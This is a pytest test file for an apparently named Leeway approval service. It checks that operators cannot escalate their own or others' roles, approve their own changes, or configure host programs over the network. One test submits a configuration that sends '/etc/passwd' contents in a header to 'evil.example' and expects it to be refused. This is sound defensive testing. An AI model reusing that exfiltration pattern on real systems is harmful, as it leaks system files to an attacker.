"""Nobody widens their own say over the network."""

import itertools
import threading

import pytest
from harness import Api, Leeway, Refused, clock_ahead, sandbox_business, wait_until
from test_sign_in import cookie_of, opened

LOCAL = 'name = "{name}"\ntitle = "Local"\npack = "filesystem"\ncommand = "/bin/sh"\nargs = ["-c", "touch {mark}"]\n'
PASSWORD = "a long enough password"


@pytest.fixture
def firm():
    leeway = Leeway({}, {}, ["filesystem"]).start()
    yield leeway
    leeway.stop()


def refused(code, call, *args):
    with pytest.raises(Refused) as caught:
        call(*args)
    assert (caught.value.status, caught.value.code) == (403, code), caught.value


def test_an_operator_cannot_make_itself_or_a_friend_decide(firm):
    operator = firm.person("operator@example.com", "operator")
    owner = firm.person("owner@example.com", "owner")
    firm.person("friend@example.com", "auditor")
    grant = lambda email, *roles: operator.post(f"/v1/users/{email}/roles", {"roles": roles})
    refused("own-roles", grant, "operator@example.com", "operator", "owner")
    refused("takes-an-owner", grant, "friend@example.com", "reviewer")
    refused("takes-an-owner", grant, "owner@example.com", "auditor")
    refused("takes-an-owner", operator.send, "DELETE", "/v1/users/owner@example.com")
    sock = {"email": "sock@example.com", "roles": ["reviewer"], "password": PASSWORD}
    refused("only-at-the-machine", operator.post, "/v1/users", sock)
    refused("only-at-the-machine", operator.post, "/v1/users", {**sock, "roles": ["auditor"]})
    refused("not-your-own", operator.post, "/v1/users/owner@example.com/tokens", {})
    refused("not-your-own", operator.post, "/v1/users/owner@example.com/password", {"password": PASSWORD})
    refused("not-your-own", owner.post, "/v1/users/friend@example.com/tokens", {})
    roles = {user["email"]: user["roles"] for user in owner.get("/v1/users")["users"]}
    assert roles["operator@example.com"] == ["operator"] and roles["friend@example.com"] == ["auditor"]
    # What is everybody's own, an owner's, and an operator's, still works.
    assert operator.post("/v1/users/operator@example.com/tokens", {})["token"]
    owner.post("/v1/users/friend@example.com/roles", {"roles": ["auditor", "reviewer"]})
    operator.post("/v1/users/friend@example.com/roles", {"roles": ["auditor", "reviewer", "operator"]})
    firm.cli("users", "token", "owner@example.com")


def test_programs_on_the_host_are_configured_at_the_machine_only(firm):
    operator = firm.person("operator@example.com", "operator")
    firm.person("owner@example.com", "owner")
    mark = firm.folder / "mark"
    now = operator.get("/v1/configuration")
    system = {"name": "local", "title": "Local", "pack": "filesystem", "command": "/bin/sh", "args": ["-c", f"touch {mark}"]}
    refused("only-at-the-machine", operator.post, "/v1/configuration", {**now, "systems": [system]})
    leak = {"name": "far", "title": "Far", "pack": "filesystem", "url": "https://evil.example/mcp", "headers": {"X": "file:/etc/passwd"}}
    refused("only-at-the-machine", operator.post, "/v1/configuration", {**now, "systems": [leak]})
    mail = {"public_url": "https://x.example", "email": {"host": "evil.example", "from": "a@b.example", "user": "u", "password": "env:MAIL"}}
    refused("only-at-the-machine", operator.post, "/v1/configuration", {**now, "notify": mail})
    assert operator.get("/v1/changes?status=open")["changes"] == []
    # At the machine itself it is brought into force as before.
    (firm.config / "systems" / "local.toml").write_text(LOCAL.format(name="local", mark=mark))
    assert firm.cli("apply", str(firm.config))["status"] == "in-force"
    wait_until(mark.exists, "the program ran")
    # A proposal that leaves it as it is goes its way.
    after = operator.get("/v1/configuration")
    after["systems"][0]["title"] = "Another title"
    assert operator.post("/v1/configuration", after)["status"] == "waiting"


def test_whoever_does_not_decide_cannot_approve_their_own_change_alone(firm):
    operator = firm.person("operator@example.com", "operator")
    now = operator.get("/v1/configuration")
    change = operator.post("/v1/configuration", {**now, "packs": []})
    refused("own-change", operator.post, f"/v1/changes/{change['change']}/approve", {"hash": change["hash"]})
    assert len(operator.get("/v1/configuration")["packs"]) == 1


TITLES = (f"Head {n}" for n in itertools.count())


def call():
    return {"tool": "sandbox__update_contact", "arguments": {"id": "c-101", "fields": {"title": next(TITLES)}}, "confidence": 0.5}


@pytest.fixture
def shop():
    leeway = sandbox_business({"desk": 'name = "desk"\ntitle = "Desk"\n[grants]\nsandbox__update_contact = "update"\n'})
    leeway.cli("users", "add", "both@example.com", "--role", "owner", "--role", "operator", "--password-stdin", stdin=PASSWORD + "\n")
    leeway.both = Api(leeway.url, leeway.cli("users", "token", "both@example.com")["token"])
    leeway.ann = leeway.person("ann@example.com", "owner")
    leeway.clerk = Api(leeway.url, leeway.agent("clerk", "desk"))
    yield leeway
    leeway.stop()


def roles(shop):
    return {user["email"]: user["roles"] for user in shop.both.get("/v1/users")["users"]}


def proposed(shop):
    """A change of the one with both roles, and an edit of theirs."""
    wanted = {**shop.both.get("/v1/workflows/desk")["workflow"], "title": "Theirs"}
    change = shop.both.send("PUT", "/v1/workflows/desk?why=mine", wanted)
    assert change["status"] == "waiting"
    held = shop.clerk.post("/v1/actions", call())
    assert held["status"] == "held"
    shop.both.decide(held["id"], "edit", arguments={"id": "c-101", "fields": {"title": f"Boss of {held['id']}"}})
    return f"/v1/changes/{change['change']}/approve", {"hash": change["hash"]}, held["id"]


def nobody_alone(shop, path, hash, held):
    refused("own-change", shop.both.post, path, hash)
    refused("own-edit", shop.both.decide, held, "approve")


def test_nobody_becomes_the_only_one_who_decides_by_taking_the_right_of_others(shop):
    path, hash, held = proposed(shop)
    nobody_alone(shop, path, hash, held)
    # By every way over the network: it takes somebody else, and asking twice is not two.
    for _ in range(2):
        for method, address, body in (("DELETE", "/v1/users/ann@example.com", None),
                                      ("POST", "/v1/users/ann@example.com/roles", {"roles": ["auditor"]})):
            assert shop.both.send(method, address, body) == {"status": "waiting", "email": "ann@example.com"}
            nobody_alone(shop, path, hash, held)
    assert roles(shop)["ann@example.com"] == ["owner"]
    [asked] = [user["asked"] for user in shop.ann.get("/v1/users")["users"] if user["email"] == "ann@example.com"]
    assert (asked["by"], asked["roles"]) == ("person:both@example.com", ["auditor"])
    # Whoever agrees agrees to what was asked.
    refused("forbidden", shop.ann.post, "/v1/users/ann@example.com/roles", {"roles": ["operator"]})
    # At the machine it is done; it is remembered.
    shop.cli("users", "roles", "ann@example.com", "--role", "auditor")
    assert roles(shop)["ann@example.com"] == ["auditor"]
    nobody_alone(shop, path, hash, held)
    shop.cli("users", "remove", "ann@example.com")
    nobody_alone(shop, path, hash, held)
    # What is proposed only now, too.
    later = proposed(shop)
    nobody_alone(shop, *later)
    assert shop.both.get("/v1/workflows/desk")["title"] == "Desk"
    assert shop.verify()["ok"]


def test_two_take_a_right_to_decide_and_after_thirty_days_nobody_is_remembered(shop):
    shop.person("rev@example.com", "reviewer")
    assert shop.both.post("/v1/users/rev@example.com/roles", {"roles": ["auditor"]})["status"] == "waiting"
    assert shop.ann.post("/v1/users/rev@example.com/roles", {"roles": ["auditor"]}) is None
    assert roles(shop)["rev@example.com"] == ["auditor"]
    # Whoever loses it may be the second.
    assert shop.both.send("DELETE", "/v1/users/ann@example.com") == {"status": "waiting", "email": "ann@example.com"}
    assert shop.ann.send("DELETE", "/v1/users/ann@example.com") is None
    assert "ann@example.com" not in roles(shop)
    path, hash, held = proposed(shop)
    nobody_alone(shop, path, hash, held)
    shop.stop()
    shop.start(env=clock_ahead(shop.folder, 31)).ready("sandbox")
    shop.both.url = shop.clerk.url = shop.url
    # What was proposed while they counted waits for somebody else still.
    refused("own-change", shop.both.post, path, hash)
    path, hash, held = proposed(shop)
    assert shop.both.approve(held)["status"] == "executed"
    assert shop.both.post(path, hash)["decision"]["solo"]


def test_rights_taken_at_the_same_time_leave_nobody_alone(shop):
    shop.person("rev@example.com", "reviewer")
    path, hash, held = proposed(shop)

    def take(by, whom):
        try:
            by.send("DELETE", f"/v1/users/{whom}@example.com")
        except Refused as late:
            assert late.code in ("changed-meanwhile", "token-invalid", "own-change", "own-edit", "not-found"), late

    for _ in range(10):
        racing = [threading.Thread(target=take, args=(shop.both, whom)) for whom in ("ann", "rev")]
        for thread in racing:
            thread.start()
        for thread in racing:
            thread.join()
        nobody_alone(shop, path, hash, held)
    assert roles(shop)["ann@example.com"] == ["owner"] and roles(shop)["rev@example.com"] == ["reviewer"]


def test_the_card_of_a_removed_agents_call_says_so(shop):
    held = shop.clerk.post("/v1/actions", call())
    assert held["status"] == "held"
    said = "The agent was removed"
    cookie = cookie_of(shop, "ann@example.com")
    card = lambda: opened(shop, f"/inbox/{held['id']}", cookie).read().decode()
    assert "Why this needs you" in card() and said not in card()
    shop.cli("agents", "remove", "clerk")
    assert said in card()
    # It waits on, and is decided like any other.
    assert shop.ann.decide(held["id"], "reject", reason="Wrong record")["status"] == "rejected"
